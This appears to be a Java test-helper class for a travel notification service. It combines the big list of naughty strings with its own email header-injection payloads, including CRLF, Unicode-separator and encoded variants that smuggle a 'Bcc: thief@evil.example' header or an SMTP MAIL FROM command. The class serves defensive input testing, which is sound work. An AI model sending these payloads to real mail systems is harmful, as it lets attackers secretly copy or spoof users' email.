package io.travelsuite.notify.naughty;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;

/** The big list of naughty strings (see SOURCE beside it), and those that break into headers. */
public final class Naughty {

  private static final List<String> INJECTIONS =
      List.of(
          "Anna\r\nBcc: thief@evil.example",
          "Anna\nBcc: thief@evil.example",
          "Anna\rBcc: thief@evil.example",
          "Anna\r\n\r\n<b>A body of my own</b>",
          "Anna\r\n.\r\nMAIL FROM:<thief@evil.example>",
          "Anna\u0000Bcc: thief@evil.example",
          "Anna\u2028Bcc: thief@evil.example",
          "Anna\u0085Bcc: thief@evil.example",
          "Anna\u560a\u560dBcc: thief@evil.example", // low bytes are CR and LF
          "=?UTF-8?Q?Anna=0D=0ABcc:_thief@evil.example?=",
          "=?UTF-8?B?QW5uYQ0KQmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=",
          "\ud800",
          "x".repeat(5000),
          "é ".repeat(2000),
          "%0d%0aBcc:%20thief@evil.example");

  private Naughty() {}

  /** All of them. */
  public static List<String> strings() {
    try (InputStream file =
        Objects.requireNonNull(Naughty.class.getResourceAsStream("blns.json"))) {
      List<String> listed = List.of(new ObjectMapper().readValue(file, String[].class));
      return Stream.concat(listed.stream(), INJECTIONS.stream()).toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
